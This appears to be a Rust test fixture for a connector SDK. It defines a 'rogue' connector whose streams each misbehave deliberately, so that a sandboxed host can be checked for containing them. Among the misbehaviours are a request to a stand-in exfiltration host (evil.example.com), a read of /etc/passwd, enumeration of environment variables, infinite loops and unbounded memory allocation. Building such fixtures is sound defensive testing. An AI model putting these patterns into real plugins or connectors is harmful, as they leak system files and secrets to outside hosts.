//! A rogue gallery in one connector: every stream reads the mock API's generated issues, and each
//! misbehaves in its own way on its second page (or everywhere). The `good` stream behaves, so a
//! test can check that a well-behaved stream in the same run still completes.

use apiary_sdk::{Connector, Endpoint, Exchange, Manifest, Page, ParseError, Record, Request, SyncContext};

/// The rogue connector.
pub struct Rogue;

/// Every stream, each named for how it misbehaves.
const STREAMS: &[&str] = &[
    "good",
    "panic_page_2",
    "loop_forever",
    "allocate",
    "flood",
    "undeclared_host",
    "read_file",
    "read_env",
    "stderr",
    "chatty",
    "bad_utf8",
    "bad_json",
    "remember",
    "scan_loop",
    "scan_fields",
];

/// What a `remember` page counts in its instance's memory: more than 1 means a page saw memory
/// an earlier call wrote, so instances would not be fresh.
static CALLS_SEEN: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);

impl Connector for Rogue {
    fn manifest() -> Manifest {
        let mut manifest = apiary_sdk::manifest("rogue", "0.1.0", "v1", "https://api.example.com");
        // The key goes in the query string: the hardest place to keep a secret out of logs.
        manifest.auth = apiary_sdk::Auth::Query(("api_key".into(), "token".into()));
        manifest.endpoints = STREAMS
            .iter()
            .map(|s| Endpoint::get(s, "/repos/apiary-mock/generated/issues").primary_key(&["number"]))
            .collect();
        manifest
    }

    fn start(endpoint: &str, ctx: &SyncContext) -> Result<Vec<Request>, String> {
        let per_page = ctx.config("per_page").unwrap_or("10");
        Ok(vec![Request::get(endpoint, format!("/repos/apiary-mock/generated/issues?per_page={per_page}"))])
    }

    fn parse(exchange: &Exchange) -> Result<Page, ParseError> {
        let stream = exchange.stream();
        let second_page = exchange.request.url.contains("page=2");
        let mut page = Page {
            records: apiary_sdk::json_array_records(exchange, stream, &["number"])?,
            next: apiary_sdk::link_next(exchange).map(|url| Request::get(stream, url)).into_iter().collect(),
            ..Page::default()
        };
        if stream == "remember" {
            remember()?;
        }
        if second_page {
            misbehave(stream, &mut page)?;
        }
        Ok(page)
    }
}

/// A megabyte of zero-initialised memory; `remember` marks its last byte.
static FAR: [std::sync::atomic::AtomicU8; 1 << 20] = [const { std::sync::atomic::AtomicU8::new(0) }; 1 << 20];

/// Count this call in a static (in the first pages of memory), mark a byte a megabyte further,
/// and grow the memory by a megabyte and fill it; fail if an earlier call's count, mark or fill
/// is visible.
fn remember() -> Result<(), ParseError> {
    use std::sync::atomic::Ordering::Relaxed;
    let calls = CALLS_SEEN.fetch_add(1, Relaxed) + 1;
    let marked = FAR[FAR.len() - 1].swap(0xAB, Relaxed);
    let grown = grow_memory(16);
    let dirty = grown.iter().filter(|b| **b != 0).count();
    grown.fill(0xCD);
    match (calls, marked, dirty) {
        (1, 0, 0) => Ok(()),
        _ => Err(ParseError::Fatal(format!(
            "an earlier call's memory is visible: call {calls}, far byte {marked:#x}, {dirty} grown bytes not zero"
        ))),
    }
}

/// `pages` new 64 KiB pages of linear memory, outside the allocator: a fresh instance's grown
/// memory is zero, whatever an earlier instance in the same slot wrote there.
#[cfg(target_arch = "wasm32")]
fn grow_memory(pages: usize) -> &'static mut [u8] {
    const PAGE: usize = 64 << 10;
    let before = core::arch::wasm32::memory_grow(0, pages);
    assert_ne!(before, usize::MAX, "memory.grow failed");
    // SAFETY: the pages were just added to the memory and nothing else knows of them.
    unsafe { std::slice::from_raw_parts_mut((before * PAGE) as *mut u8, pages * PAGE) }
}

/// Built natively (`cargo test --workspace` compiles every member for the host too): zeroed
/// memory from the allocator.
#[cfg(not(target_arch = "wasm32"))]
fn grow_memory(pages: usize) -> &'static mut [u8] {
    Box::leak(vec![0u8; pages << 16].into_boxed_slice())
}

/// The misbehaviour of `stream`.
fn misbehave(stream: &str, page: &mut Page) -> Result<(), ParseError> {
    match stream {
        "panic_page_2" => panic!("rogue connector: page 2 is cursed"),
        "loop_forever" => {
            let mut n = 0u64;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "allocate" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "flood" => {
            page.records =
                (0..10_000_000).map(|i| Record { stream: stream.into(), key: None, json: format!("{i}") }).collect();
        }
        "undeclared_host" => page.next = vec![Request::get(stream, "https://evil.example.com/exfiltrate")],
        "read_file" => {
            let read = std::fs::read_to_string("/etc/passwd");
            return Err(ParseError::Fatal(format!("tried to read /etc/passwd: {:?}", read.map(|t| t.len()))));
        }
        "stderr" => eprintln!("rogue connector says hello on stderr"),
        "chatty" => eprint!("{}", "blah ".repeat(40_000)),
        "read_env" => {
            let home = std::env::var("HOME");
            let all = std::env::vars().count();
            return Err(ParseError::Fatal(format!("tried to read HOME: {home:?}, saw {all} variables")));
        }
        // SAFETY: deliberately not UTF-8; the host must refuse it, not trust it.
        "bad_utf8" => page.records[0].json = unsafe { String::from_utf8_unchecked(vec![b'"', 0xff, 0xfe, b'"']) },
        "bad_json" => page.records[0].json = "{\"number\": 11, \"title\": ".to_string(),
        // The host's walk runs outside the call's deadline: calling it forever must still end.
        "scan_loop" => loop {
            std::hint::black_box(scan_on_host(page, &["number"]))?;
        },
        "scan_fields" => {
            let fields: Vec<String> = (0..65).map(|i| format!("f{i}")).collect();
            let names: Vec<&str> = fields.iter().map(String::as_str).collect();
            return scan_on_host(page, &names).map(|_| ());
        }
        _ => {}
    }
    Ok(())
}

/// The contract's `scan-records` called directly (not through the SDK's helpers, which stay
/// within its bounds), on the page's records as a JSON array; a refusal is a `fatal` error.
#[cfg(target_arch = "wasm32")]
fn scan_on_host(page: &Page, fields: &[&str]) -> Result<usize, ParseError> {
    use apiary_sdk::__private::bindings::apiary::connector::types::RecordsAt;
    let jsons: Vec<&str> = page.records.iter().map(|r| r.json.as_str()).collect();
    let body = format!("[{}]", jsons.join(","));
    let fields: Vec<String> = fields.iter().map(|f| f.to_string()).collect();
    let scanned = apiary_sdk::__private::bindings::scan_records(body.as_bytes(), &RecordsAt::Array, &fields, None);
    // The answer's length: flat since 0.4, a span and three numbers per field for each record.
    scanned.map(|scan| scan.records.len()).map_err(|e| ParseError::Fatal(format!("scan-records refused: {e}")))
}

/// Built natively there is no host to call.
#[cfg(not(target_arch = "wasm32"))]
fn scan_on_host(_: &Page, _: &[&str]) -> Result<usize, ParseError> {
    Err(ParseError::Fatal("no host".into()))
}

apiary_sdk::export_connector!(Rogue);
